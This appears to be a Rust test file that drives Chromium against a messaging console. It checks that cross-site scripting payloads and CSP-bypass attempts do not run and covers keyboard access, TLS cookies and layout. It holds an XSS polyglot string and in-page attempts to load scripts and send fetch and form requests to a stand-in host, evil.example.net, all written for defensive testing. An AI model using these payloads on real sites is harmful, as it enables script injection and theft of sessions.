//! The console in Chromium: with messages that want to be more than text, by the keyboard alone, and in windows of all sizes.

mod chromium;

use std::path::Path;

use proto::v1::{Message, MessageState};
use restante_tests::http::send;
use restante_tests::run::run;
use restante_tests::sip::{example, fresh};
use restante_tests::{Deployment, Scene, somebody, uri};
use serde_json::json;
use tokio::process::Command;

use super::are_there;
use crate::secure::Certificates;
use chromium::Chromium;

/// What everybody who is hostile writes: it ends what it may stand in, and marks the page if it runs.
const HOSTILE: &str = "'\"></title></textarea></script><script>window.taken=1;alert(1)</script>\
                       <img src=x onerror=window.taken=2><svg onload=window.taken=3>\
                       <a href=javascript:window.taken=4>{{7*7}}&lt;\u{202e}";

async fn scene() -> Scene {
    Scene::start(Deployment::all().set("events.enabled", "true")).await
}

/// Signs in by the address that `restantectl console` prints, which needs one key.
async fn sign_in(browser: &mut Chromium, deployment: &Deployment, roles: &str) -> String {
    let signed = deployment.restantectl(&["console", "--role", roles]).await;
    let records = signed.done().records();
    let url = records[0]["url"].as_str().expect("a URL").to_owned();
    browser.visit(&url).await;
    browser
        .until("document.activeElement.tagName === 'BUTTON'")
        .await;
    assert_eq!(
        browser.text("location.hash").await,
        "",
        "the token has left the address"
    );
    browser.press("Enter").await;
    browser.until("document.title.startsWith('Overview')").await;
    url.split("/sign-in").next().expect("a place").to_owned()
}

/// A message whose sender is hostile in every field that is his.
async fn hostile(scene: &mut Scene) -> Message {
    let user = somebody();
    let quoted = HOSTILE.replace('"', "\\\"");
    let alice = format!("\"{quoted}\" <sip:alice@example.org>");
    let request = example::message(&user)
        .set("Subject", HOSTILE)
        .set("From", &format!("{alice};tag={}", fresh()))
        .set("P-Asserted-Identity", &alice)
        .set(
            "Call-ID",
            &format!("{}<script>window.taken=5</script>\"'@a", fresh()),
        )
        .line(format!("Conversation-ID: {HOSTILE}"))
        .line(format!("Contribution-ID: {HOSTILE}"))
        .body("text/html", format!("<html>{HOSTILE}</html>"));
    scene.deposit(&request).await;
    let contact = format!(
        "<sip:bob@203.0.113.9:5060>;+g.oma.sip-im;expires=3600;note=\"{}\"",
        "<script>window.taken=6</script>"
    );
    let register = example::bare_register(&user, 3600).body(
        "multipart/mixed;boundary=\"3pr\"",
        example::multipart(
            "3pr",
            "message/sip",
            &[
                example::embedded_register(&user, &contact)
                    .replace("IM-client/OMA1.0 AcmeIM/3.2", HOSTILE),
                example::embedded_ok(&user, &contact),
            ],
        ),
    );
    scene.registered(&register).await;
    scene.operator.only(&uri(&user)).await
}

/// Nothing of the page is anybody's but ours, and nothing has run or been loaded that is not.
async fn is_unharmed(browser: &mut Chromium, place: &str) {
    let at = browser.text("location.href").await;
    assert_eq!(
        browser.value("typeof window.taken").await,
        "undefined",
        "{at}"
    );
    let foreign = "[...document.querySelectorAll('script,img,iframe,object,embed,svg,style,base,meta[http-equiv],link')]\
                   .filter((it) => !['/console.js', '/icon.svg', '/console.css'].includes(it.getAttribute('src') ?? it.getAttribute('href')))\
                   .map((it) => it.outerHTML).join()";
    assert_eq!(browser.text(foreign).await, "", "{at}");
    let handlers = "[...document.querySelectorAll('*')].flatMap((it) => [...it.attributes])\
                    .filter((it) => it.name.startsWith('on') || it.name === 'style' || /^\\s*javascript:/i.test(it.value) && it.name === 'href')\
                    .map((it) => it.name).join()";
    assert_eq!(browser.text(handlers).await, "", "{at}");
    let dialogs = browser.told_of("Page.javascriptDialogOpening");
    assert!(dialogs.is_empty(), "{at}: {dialogs:?}");
    let complaints = browser.complaints();
    assert!(complaints.is_empty(), "{at}: {complaints:?}");
    let requests = browser.told_of("Network.requestWillBeSent");
    let urls = requests
        .iter()
        .map(|told| told["request"]["url"].as_str().expect("a URL"));
    let elsewhere: Vec<_> = urls
        .filter(|url| !url.starts_with(place) && *url != "about:blank")
        .collect();
    assert!(elsewhere.is_empty(), "{at}: {elsewhere:?}");
}

#[tokio::test]
async fn nothing_that_a_sender_or_operator_writes_runs_in_the_console() {
    if !are_there(&["chromium"]) {
        return;
    }
    let mut scene = scene().await;
    let message = hostile(&mut scene).await;
    let id = message.message_id.replace('@', "%40");
    let mut browser = Chromium::start().await;
    let place = sign_in(&mut browser, &scene.deployment, "operator,body-reader").await;
    let user = message.served_user.replace(':', "%3A").replace('@', "%40");
    browser.forget();
    for path in [
        "/".to_owned(),
        "/messages".to_owned(),
        format!("/messages?user={user}"),
        format!("/message?id={id}"),
        format!("/order?id={id}&verb=delete"),
        format!("/content?id={id}"),
        "/queue".to_owned(),
    ] {
        browser.visit(&format!("{place}{path}")).await;
        is_unharmed(&mut browser, &place).await;
    }
    browser.visit(&format!("{place}/content?id={id}")).await;
    let shown = browser
        .text("document.querySelector('pre').textContent")
        .await;
    assert_eq!(
        shown,
        format!("<html>{HOSTILE}</html>").replace('\u{202e}', "\\u{202e}")
    );

    // An operator's reason, as it comes to whoever watches, and in the timeline.
    browser.visit(&format!("{place}/live")).await;
    browser
        .until("document.getElementById('live-status').textContent === 'Watching'")
        .await;
    scene
        .deployment
        .restantectl(&["hold", &message.message_id, "--reason", HOSTILE])
        .await
        .done();
    browser
        .until("document.querySelector('#live tbody').rows.length > 0")
        .await;
    is_unharmed(&mut browser, &place).await;
    let told = browser
        .text("document.querySelector('#live tbody').textContent")
        .await;
    assert!(
        told.contains("held") && told.contains("<script>window.taken=1"),
        "{told}"
    );
    browser.visit(&format!("{place}/message?id={id}")).await;
    is_unharmed(&mut browser, &place).await;
    let told = browser
        .text("document.querySelector('.timeline').textContent")
        .await;
    assert!(
        told.contains("<img src=x onerror=window.taken=2>"),
        "{told}"
    );
}

/// Pausing closes the watch, and so does a tab that nobody sees: what happens meanwhile is shown afterwards.
#[tokio::test]
async fn a_live_watch_that_was_paused_or_not_seen_misses_nothing() {
    if !are_there(&["chromium"]) {
        return;
    }
    let mut scene = scene().await;
    let mut browser = Chromium::start().await;
    let place = sign_in(&mut browser, &scene.deployment, "reader").await;
    browser.visit(&format!("{place}/live")).await;
    let says = |text| format!("document.getElementById('live-status').textContent === '{text}'");
    let shows = |rows| format!("document.querySelector('#live tbody').rows.length === {rows}");
    let click = "document.getElementById('live-pause').click()";
    let see = |is_hidden: bool| {
        format!(
            "Object.defineProperty(document, 'hidden', {{configurable: true, get: () => {is_hidden}}}); \
             document.dispatchEvent(new Event('visibilitychange')); 0"
        )
    };
    browser.until(&says("Watching")).await;
    scene.deposit_text(&somebody(), "one").await;
    browser.until(&shows(1)).await;

    browser.value(click).await;
    browser.until(&says("Paused")).await;
    scene.deposit_text(&somebody(), "two").await;
    browser.until(&shows(1)).await;
    browser.value(click).await;
    browser.until(&shows(2)).await;

    browser.value(&see(true)).await;
    scene.deposit_text(&somebody(), "three").await;
    browser.until(&shows(2)).await;
    browser.value(&see(false)).await;
    browser.until(&shows(3)).await;
}

/// The browser believes what it is told: a script that is there all the same is not run.
#[tokio::test]
async fn the_policy_of_the_console_stops_what_templates_would_let_through() {
    if !are_there(&["chromium"]) {
        return;
    }
    let scene = scene().await;
    let mut browser = Chromium::start().await;
    sign_in(&mut browser, &scene.deployment, "reader").await;
    let tried = "new Promise((done) => {
        const stopped = [];
        document.addEventListener('securitypolicyviolation', (it) => stopped.push(it.effectiveDirective));
        const attempt = (act) => { try { act(); } catch { } };
        const script = document.createElement('script');
        attempt(() => { script.src = 'https://evil.example.net/x.js'; document.body.append(script); });
        attempt(() => { document.body.innerHTML += '<img src=x onerror=window.taken=1>'; });
        attempt(() => document.body.setAttribute('onclick', 'window.taken=2'));
        attempt(() => eval('window.taken=3'));
        attempt(() => { new Image().src = 'https://evil.example.net/x.png'; });
        attempt(() => document.body.style.setProperty('color', 'red'));
        fetch('https://evil.example.net/').then(() => { window.taken = 4; }, () => {});
        const form = document.createElement('form');
        form.action = 'https://evil.example.net/';
        document.body.append(form);
        form.submit();
        document.body.click();
        setTimeout(() => done([typeof window.taken, ...new Set(stopped)].sort().join(' ')), 500);
    })";
    let expected = "connect-src form-action img-src require-trusted-types-for undefined";
    assert_eq!(browser.text(tried).await, expected);
    let cookie = browser.text("document.cookie").await;
    assert_eq!(cookie, "", "scripts do not see the session");
}

/// Presses Tab until the element with the focus is this one; each on the way shows that it has it.
async fn tab_to(browser: &mut Chromium, selector: &str) {
    for _ in 0..40 {
        browser.press("Tab").await;
        let shows = "document.activeElement === document.body || getComputedStyle(document.activeElement).outlineStyle !== 'none'";
        assert_eq!(browser.value(shows).await, true, "the focus is seen");
        let is_there = format!("document.activeElement.matches({selector:?})");
        if browser.value(&is_there).await == true {
            return;
        }
    }
    panic!("no way by Tab to {selector}");
}

#[tokio::test]
async fn a_message_is_found_and_held_by_the_keyboard_alone() {
    if !are_there(&["chromium"]) {
        return;
    }
    let mut scene = scene().await;
    let message = scene.deposit_text(&somebody(), "Lunch at noon?").await;
    let mut browser = Chromium::start().await;
    sign_in(&mut browser, &scene.deployment, "operator").await;

    browser.press("Tab").await;
    assert_eq!(
        browser.text("document.activeElement.className").await,
        "skip"
    );
    browser.press("Enter").await;
    browser.until("document.activeElement.id === 'main'").await;
    tab_to(&mut browser, "#user").await;
    browser.write(&message.served_user).await;
    browser.press("Enter").await;
    browser
        .until("document.querySelector('h1').textContent.startsWith('Mailbox of')")
        .await;
    tab_to(&mut browser, "table.messages a[href^='/message?']").await;
    browser.press("Enter").await;
    browser
        .until("document.querySelector('.timeline') !== null")
        .await;
    tab_to(&mut browser, "a[href*='verb=hold']").await;
    browser.press("Enter").await;
    browser
        .until("document.activeElement.id === 'reason'")
        .await;
    browser.write("ticket 4711").await;
    browser.press("Enter").await;
    browser
        .until("document.querySelector('[role=status]')?.textContent === 'The message is held.'")
        .await;

    let id = &message.message_id;
    assert_eq!(scene.operator.state(id).await, MessageState::Held);
    let timeline = browser
        .text("document.querySelector('.timeline').textContent")
        .await;
    assert!(
        timeline.contains("held") && timeline.contains("ticket 4711"),
        "{timeline}"
    );
    tab_to(&mut browser, "header form button").await;
    browser.press("Enter").await;
    browser.until("location.pathname === '/sign-in'").await;
    // Whatever has no name is silent to those who do not see it.
    let nameless = "[...document.querySelectorAll('input:not([type=hidden])')].filter((it) => !it.labels.length).length";
    assert_eq!(browser.value(nameless).await, 0);
}

#[tokio::test]
async fn the_console_speaks_tls_and_nothing_else_where_it_has_a_certificate() {
    if !are_there(&["chromium"]) {
        return;
    }
    let plan = Deployment::storage_alone();
    let certificates = Certificates::new(plan.net());
    let own = &certificates.storage;
    let plan = plan
        .set(
            "console.certificate",
            &own.certificate.display().to_string(),
        )
        .set("console.key", &own.key.display().to_string());
    let deployment = plan.start().await;
    // The authority of the test is in no browser; that its certificates are believed is tried for gRPC.
    let mut browser = Chromium::start_with(&["--ignore-certificate-errors"]).await;
    let place = sign_in(&mut browser, &deployment, "reader").await;
    let address = deployment.address("console.listen");
    assert_eq!(place, format!("https://{address}"));
    let cookies = browser.call("Network.getCookies", json!({})).await;
    let cookie = &cookies["cookies"][0];
    assert_eq!(
        (&cookie["secure"], &cookie["httpOnly"], &cookie["sameSite"]),
        (&json!(true), &json!(true), &json!("Strict"))
    );

    let request = format!("GET /sign-in HTTP/1.1\r\nHost: {address}\r\nConnection: close\r\n\r\n");
    let in_clear = send(address, &request).await;
    assert_ne!(in_clear.map_or(0, |reply| reply.status), 200);
}

/// Messages of all kinds, for pictures.
async fn populate(scene: &mut Scene, user: &str) -> String {
    let texts = [
        ("Lunch", "Lunch at noon, same place?"),
        ("Minutes of the meeting", "They are in the shared folder."),
        (
            "Re: On call tonight",
            "I can take it. Please send me the numbers.",
        ),
        ("غداء", "هل نلتقي عند الظهر؟"),
        ("", "No subject, but urgent."),
        ("Backup of Friday", "It has finished without errors."),
    ];
    let mut first = String::new();
    for (subject, text) in texts {
        let request = example::message(user)
            .set("Subject", subject)
            .body("text/plain;charset=utf-8", text);
        scene.deposit(&request).await;
        let stored = scene.find(user, &request.field("Call-ID")).await;
        if first.is_empty() {
            first = stored.message_id.clone();
        }
        let order: &[&str] = match subject {
            "Minutes of the meeting" => &["hold", "--reason", "legal check, ticket 4711"],
            "غداء" => &["expire", "--reason", "obsolete"],
            "Backup of Friday" => &["delete", "--reason", "asked for by its sender"],
            _ => continue,
        };
        let order = [order, &[&stored.message_id]].concat();
        scene.deployment.restantectl(&order).await.done();
    }
    scene
        .deployment
        .restantectl(&["hold", &first, "--reason", "user is travelling"])
        .await
        .done();
    scene
        .deployment
        .restantectl(&["unhold", &first])
        .await
        .done();
    first
}

/// Keeps a picture for docs/console.md, if pictures are wanted: `CONSOLE_PICTURES=docs/console`, from the root of the repository.
async fn keep(browser: &mut Chromium, name: &str) {
    let picture = browser.picture().await;
    assert!(picture.starts_with("iVBOR"), "a PNG");
    let Some(folder) = std::env::var_os("CONSOLE_PICTURES") else {
        return;
    };
    let root = Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .expect("a root");
    let file = root.join(folder).join(format!("{name}.png"));
    let mut decode = Command::new("sh");
    let coded = tempfile::NamedTempFile::new().expect("a temporary file");
    std::fs::write(coded.path(), picture).expect("written");
    decode
        .args(["-c", "base64 -d \"$1\" > \"$2\"", "sh"])
        .args([coded.path(), &file]);
    run(decode).await.done();
}

#[tokio::test]
async fn every_page_of_the_console_fits_a_phone_and_a_desk_in_light_and_dark() {
    if !are_there(&["chromium"]) {
        return;
    }
    let mut scene = scene().await;
    let user = "bob";
    let first = populate(&mut scene, user).await;
    let id = first.replace('@', "%40");
    let mut browser = Chromium::start().await;
    browser.look(1180, 820, "light").await;
    let place = sign_in(&mut browser, &scene.deployment, "operator,body-reader").await;
    let pages = [
        ("overview", "/".to_owned()),
        ("mailbox", "/messages?user=bob%40example.org".to_owned()),
        ("message", format!("/message?id={id}")),
        ("order", format!("/order?id={id}&verb=hold")),
        ("content", format!("/content?id={id}")),
        ("queue", "/queue".to_owned()),
        ("live", "/live".to_owned()),
        ("none", "/messages?user=nobody%40example.org".to_owned()),
    ];
    for (width, height, scheme, suffix) in [
        (1180, 820, "light", ""),
        (1180, 820, "dark", "-dark"),
        (390, 844, "light", "-phone-light"),
        (390, 844, "dark", "-phone"),
    ] {
        browser.look(width, height, scheme).await;
        for (name, path) in &pages {
            browser.visit(&format!("{place}{path}")).await;
            if *name == "live" {
                browser
                    .until("document.getElementById('live-status').textContent === 'Watching'")
                    .await;
                populate(&mut scene, user).await;
                browser
                    .until("document.querySelector('#live tbody').rows.length > 5")
                    .await;
            }
            let wide = browser
                .value("document.scrollingElement.scrollWidth - innerWidth")
                .await;
            assert!(
                wide.as_i64().is_some_and(|wide| wide <= 0),
                "{name}{suffix} is too wide by {wide}"
            );
            keep(&mut browser, &format!("{name}{suffix}")).await;
        }
    }
    let complaints = browser.complaints();
    assert!(complaints.is_empty(), "{complaints:?}");
}
